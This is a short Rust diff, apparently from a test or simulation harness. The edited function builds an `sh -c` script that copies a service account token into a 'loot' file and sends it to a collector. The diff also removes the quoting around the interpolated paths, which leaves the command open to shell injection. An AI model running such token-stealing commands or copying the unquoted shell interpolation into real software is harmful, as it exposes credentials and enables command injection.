@@ -64,8 +64,8 @@ fn outcome(result: io::Result<()>) -> String {
 
 fn evaluate(folder: &Path, collector: &str) -> io::Result<()> {
     let script = format!(
-        "cat '{folder}/secrets/serviceaccount/token' > '{folder}/work/loot' && \
-         '{folder}/bin/toy-step' {WORD} send '{folder}/work/loot' {collector}",
+        "cat {folder}/secrets/serviceaccount/token > {folder}/work/loot && \
+         {folder}/bin/toy-step {WORD} send {folder}/work/loot {collector}",
         folder = folder.display()
     );
     wait(Command::new("/bin/sh").args(["-c", &script]))
